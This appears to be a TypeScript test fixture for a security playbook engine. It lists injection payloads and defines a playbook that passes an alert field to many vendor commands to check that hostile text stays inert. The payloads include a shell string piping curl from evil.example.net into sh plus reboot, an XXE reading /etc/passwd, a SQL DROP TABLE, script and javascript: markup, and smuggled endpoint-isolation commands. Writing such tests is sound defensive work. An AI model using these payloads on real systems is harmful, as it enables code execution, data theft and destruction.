/** Hostile texts as an alert may hold them, and a playbook that hands one to everything that takes a text. */
import { yamlOf } from '../../src/core/playbook/testing.ts';

export const INJECTIONS: readonly (readonly [into: string, text: string])[] = [
  ['a template', '${list.policy}${.=1+1}${alert.agentid}'],
  ['a selector', 'x(val.Name == "x").Name={"a":1}'],
  ['a command line of ours', '!core-isolate-endpoint endpoint_id=eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee'],
  ['a shell', '"; curl http://evil.example.net/x | sh; $(reboot) `reboot` #'],
  ['a query', 'x" or status:closed or id:* or name:"'],
  ['SQL', `'; DROP TABLE run; UPDATE alert SET status='closed'; --`],
  ['XML', ']]></member></list></entry><entry name="evil"><list><member>*.com'],
  ['an XML entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  ['an XPath', `x'] | //*[@name='`],
  ['a form', 'x&type=commit&cmd=<commit/>'],
  ['a header', 'x\r\nX-Evil: 1\r\n\r\nPOST /public_api/v1/endpoints/isolate HTTP/1.1'],
  ['a path', '../../../../public_api/v1/endpoints/isolate'],
  [
    'markup',
    '<script>fetch("/api/v1/approvals/answer")</script>![x](http://evil.example.net/?x)[y](javascript:alert(1))',
  ],
  ['YAML', `x"}\n  "9": {id: "9", type: regular, task: {script: "|||core-isolate-endpoint"}}\n- !!js/function 'x'`],
  ['JSON', '"}],"request_data":{"endpoint_id":"eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"},"x":[{"y":"'],
  ['a terminal', `${String.fromCodePoint(0x1b)}[2J${String.fromCodePoint(0x1b)}]0;x${String.fromCodePoint(7)}\u202E`],
];

const task = (name: string, args: string, next: string) =>
  `type: regular, continueonerror: true, task: {name: "${name}", script: "${name}", type: regular}, scriptarguments: ${args}, nexttasks: {'#none#': ["${next}"]}`;
const IT = '{simple: "${alert.payload}"}';

/** Hands the field `payload` of the alert to scripts and to reads of every vendor, and keeps it as it is under `Echo`. */
export const CARRIER = yamlOf('Carries what an alert holds', {
  1: task('Set', `{key: {simple: Echo}, value: ${IT}}`, '2'),
  2: task('Print', `{value: ${IT}}`, '3'),
  3: task('|||core-get-endpoints', `{hostname: ${IT}}`, '4'),
  4: task('|||core-get-endpoints', `{endpoint_id_list: ${IT}}`, '5'),
  5: task('|||url', `{url: ${IT}}`, '6'),
  6: task('|||file', `{file: ${IT}}`, '7'),
  7: task('|||domain', `{domain: ${IT}}`, '8'),
  8: task('|||wildfire-get-verdict', `{hash: ${IT}}`, '9'),
  9: task('|||pan-os-get-custom-url-category', `{name: ${IT}}`, '10'),
  10: task('|||pan-os-list-rules', `{rulename: ${IT}}`, '11'),
  11: task('SearchIncidentsV2', `{query: ${IT}}`, '12'),
  12: task('extractIndicators', `{text: ${IT}}`, '13'),
  13: 'type: title, task: {name: End, type: title}',
});
